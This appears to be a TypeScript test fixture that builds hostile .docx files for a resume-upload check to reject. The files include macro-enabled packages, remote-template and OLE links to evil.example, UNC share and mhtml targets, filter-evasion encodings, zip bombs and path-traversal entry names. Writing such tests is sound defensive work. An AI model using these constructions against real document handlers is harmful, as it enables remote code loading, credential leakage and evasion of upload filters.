/** Files named .docx that the check of resumes must refuse. */
import type { FieldError } from '../submission/field-error.ts'
import { bytesOf, fromHex, joined, noise, replaced, utf16Of } from './bytes.ts'
import { compoundFile } from './compound-files.ts'
import {
  asFolder,
  contentTypes,
  DOCX_TYPE,
  documentParts,
  docxBomb,
  docxOf,
  docxWithLink,
  docxWithOverlap,
  manyParts,
  relationships,
  renamedLocally,
  zipOf,
} from './word-packages.ts'

type HostileDocx = [what: string, error: FieldError, bytes: Uint8Array<ArrayBuffer>]

export async function hostileDocx(): Promise<HostileDocx[]> {
  return (
    await Promise.all([otherPackages(), macroDocuments(), linkedDocuments(), disguisedLinks(), brokenDocuments()])
  ).flat()
}

async function otherPackages(): Promise<HostileDocx[]> {
  const office = 'application/vnd.openxmlformats-officedocument'
  return [
    [
      'a workbook',
      'resume_mismatch',
      await zipOf({
        '[Content_Types].xml': contentTypes(`${office}.spreadsheetml.sheet.main+xml`),
        'xl/workbook.xml': '<workbook/>',
      }),
    ],
    [
      'slides',
      'resume_mismatch',
      await zipOf({
        '[Content_Types].xml': contentTypes(`${office}.presentationml.presentation.main+xml`),
        'ppt/presentation.xml': '<presentation/>',
      }),
    ],
    [
      'an OpenDocument text',
      'resume_mismatch',
      await zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office/>' }, { level: 0 }),
    ],
    [
      'a book',
      'resume_mismatch',
      await zipOf({ mimetype: 'application/epub+zip', 'META-INF/container.xml': '<container/>' }, { level: 0 }),
    ],
    [
      'a Java program',
      'resume_mismatch',
      await zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': '\xca\xfe\xba\xbe' }),
    ],
    ['an archive of files', 'resume_mismatch', await zipOf({ 'cv.exe': 'MZ\x90\0' })],
    ['an archive with another archive in it', 'resume_mismatch', await zipOf({ 'cv.docx': await docxOf() })],
  ]
}

async function macroDocuments(): Promise<HostileDocx[]> {
  const macroEnabled = 'application/vnd.ms-word.document.macroEnabled.main+xml'
  const project = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
  return [
    [
      'a .docm',
      'resume_macros',
      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled, project), 'word/vbaProject.bin': 'x' }),
    ],
    [
      'a macro-enabled content type',
      'resume_macros',
      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled) }),
    ],
    [
      'a macro-enabled content type in references',
      'resume_macros',
      await docxOf({ '[Content_Types].xml': contentTypes(macroEnabled.replace('macro', '&#109;&#x61;cro')) }),
    ],
    [
      'a macro-enabled content type in UTF-16',
      'resume_macros',
      await docxOf({ '[Content_Types].xml': utf16Of(`\ufeff${contentTypes(macroEnabled)}`) }),
    ],
    [
      'macros in a part of another name',
      'resume_macros',
      await docxOf({ '[Content_Types].xml': contentTypes(DOCX_TYPE, project), 'word/x.bin': 'x' }),
    ],
    ['macros in an odd place', 'resume_macros', await docxOf({ 'customXml/deep/VBAProject.BIN': 'x' })],
    ['macros behind a backslash', 'resume_macros', await docxOf({ 'word\\vbaProject.bin': 'x' })],
  ]
}

const SETTINGS = 'word/_rels/settings.xml.rels'

/** Documents with links that Word would follow without asking. */
async function linkedDocuments(): Promise<HostileDocx[]> {
  const body = 'word/_rels/document.xml.rels'
  const links: [what: string, part: string, type: string, target: string][] = [
    ['a template from the web', SETTINGS, 'attachedTemplate', 'https://evil.example/x.dotm'],
    ['a template address in references', SETTINGS, 'attachedTemplate', '&#104;ttp&#x3A;//evil.example/x.dotm'],
    ['a template in a Windows share', SETTINGS, 'attachedTemplate', '\\\\evil.example\\share\\x.dotm'],
    ['a template in a share as file address', SETTINGS, 'attachedTemplate', 'file:///\\\\evil.example\\share\\x.dotm'],
    ['a template on a file server', SETTINGS, 'attachedTemplate', 'file://evil.example/x.dotm'],
    [
      'a template on a server called like this one',
      SETTINGS,
      'attachedTemplate',
      'file://localhost.evil.example/x.dotm',
    ],
    ['a template in an escaped share', SETTINGS, 'attachedTemplate', '%5C%5Cevil.example%5Cx.dotm'],
    ['a template by FTP', SETTINGS, 'attachedTemplate', 'ftp://evil.example/x.dotm'],
    ['an object from the web', body, 'oleObject', 'http://evil.example/x.html!'],
    [
      'an object as web archive',
      body,
      'oleObject',
      'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
    ],
    ['a frame', 'word/_rels/webSettings.xml.rels', 'frame', 'http://evil.example/'],
    ['a subdocument', body, 'subDocument', 'https://evil.example/x.docx'],
    ['a chunk', body, 'aFChunk', 'https://evil.example/x.html'],
  ]
  return Promise.all(
    links.map(
      async ([what, part, type, target]): Promise<HostileDocx> => [
        what,
        'resume_macros',
        await docxWithLink(part, type, target),
      ],
    ),
  )
}

/** Documents with the link to a template, written so that a simple search does not find it. */
async function disguisedLinks(): Promise<HostileDocx[]> {
  const link = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
  // The extra field gives `SETTINGS` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9): a version, the
  // checksum of the first name, and the second name. `zipOf` adds the field to every part, but the checksum fits only
  // `SETTINGS`. Word reads the first name only.
  const secondName = new Map([[0x7075, joined(fromHex('012e4fc970'), bytesOf('word/notes.xml'))]])
  return [
    [
      'a template with a > in an attribute',
      'resume_macros',
      await docxOf({ [SETTINGS]: link.replace('Id="', 'Note=">" Id="') }),
    ],
    ['a template in apostrophes', 'resume_macros', await docxOf({ [SETTINGS]: link.replaceAll('"', "'") })],
    [
      'a template under a prefix',
      'resume_macros',
      await docxOf({ [SETTINGS]: link.replace('<Relationship ', '<r:Relationship\n') }),
    ],
    [
      'a template in a part that is marked as a folder',
      'resume_damaged',
      asFolder(await docxOf({ [SETTINGS]: link }), SETTINGS),
    ],
    [
      'a template in a part with a second name',
      'resume_macros',
      await zipOf({ ...documentParts(), [SETTINGS]: link }, { extraField: secondName, useUnicodeFileNames: false }),
    ],
    ['a template in UTF-16', 'resume_macros', await docxOf({ [SETTINGS]: utf16Of(`\ufeff${link}`) })],
    [
      'a template in an entity',
      'resume_damaged',
      await docxOf({
        [SETTINGS]: `<!DOCTYPE r [<!ENTITY x "https://evil.example/">]>${link.replace('https://evil.example/', '&x;')}`,
      }),
    ],
  ]
}

async function brokenDocuments(): Promise<HostileDocx[]> {
  const docx = await docxOf()
  const stored = await zipOf(documentParts(), { level: 0 })
  const evil = await docxOf({ 'up/evil.exe': 'MZ' })
  return [
    [
      'a document under a password',
      'resume_protected',
      compoundFile(['EncryptionInfo', 'EncryptedPackage', '\x06DataSpaces/']),
    ],
    [
      'an archive under a password',
      'resume_protected',
      await zipOf(documentParts(), { password: 'secret', zipCrypto: true }),
    ],
    ['an archive under a strong password', 'resume_protected', await zipOf(documentParts(), { password: 'secret' })],
    ['a document that unpacks to 110 MB', 'resume_damaged', await docxBomb(11, 10_000_000)],
    ['a document of 30 kB that unpacks to 10 MB', 'resume_damaged', await docxBomb(1, 10_000_000)],
    [
      'a document that unpacks to 27 MB, of which some is noise',
      'resume_damaged',
      await docxOf({ 'word/media/noise.bin': noise(500_000), 'word/media/image1.bmp': new Uint8Array(26_500_000) }),
    ],
    ['a document that lies about its unpacked size', 'resume_damaged', await docxBomb(11, 1000)],
    ['a document that claims to unpack to 4 GB', 'resume_damaged', await docxBomb(1, 0xfffffffe)],
    [
      'a relationship without end',
      'resume_macros',
      await docxOf({
        'word/_rels/document.xml.rels': `<Relationship ${'a'.repeat(500_000)} "${'a'.repeat(400_000)}"></Relationship>${relationships(['frame', 'http://evil.example/'])}`,
      }),
    ],
    [
      'relationships of 3 MB',
      'resume_damaged',
      await docxOf({ 'word/_rels/document.xml.rels': ' '.repeat(3_000_000) }),
    ],
    [
      'relationships of 3 MB in all',
      'resume_damaged',
      await docxOf({
        'word/_rels/document.xml.rels': ' '.repeat(1_000_000),
        'word/_rels/settings.xml.rels': ' '.repeat(1_000_000),
        'word/_rels/webSettings.xml.rels': ' '.repeat(1_000_000),
      }),
    ],
    ['thousands of parts', 'resume_damaged', await manyParts(2001)],
    ['parts that overlap', 'resume_damaged', await docxWithOverlap()],
    ['two parts of one name', 'resume_damaged', await docxOf({ 'WORD/Document.xml': '<other/>' })],
    ['a truncated document', 'resume_damaged', docx.slice(0, -30)],
    ['half a document', 'resume_damaged', docx.slice(0, docx.length / 2)],
    ['a document with other text than its checksum', 'resume_damaged', replaced(stored, 'w:body', 'w:evil')],
    [
      'a document with broken compression',
      'resume_damaged',
      joined(docx.subarray(0, 60), bytesOf('\xff\xff\xff\xff\xff\xff'), docx.subarray(66)),
    ],
    ['a signature alone', 'resume_damaged', docx.slice(0, 4)],
    ['a signature with noise', 'resume_damaged', joined(docx.subarray(0, 4), new Uint8Array(2000).fill(0x5a))],
    ['a part above the archive', 'resume_damaged', replaced(evil, 'up/evil.exe', '../evil.exe')],
    ['a part above the archive, with a backslash', 'resume_damaged', replaced(evil, 'up/evil.exe', '..\\evil.exe')],
    ['a part at the root of the disk', 'resume_damaged', replaced(evil, 'up/evil.exe', '/p/evil.exe')],
    ['a part on a drive', 'resume_damaged', replaced(evil, 'up/evil.exe', 'C:/evil.exe')],
    ['local names that differ', 'resume_damaged', renamedLocally(evil, 'up/evil.exe', 'up/kind.txt')],
  ]
}
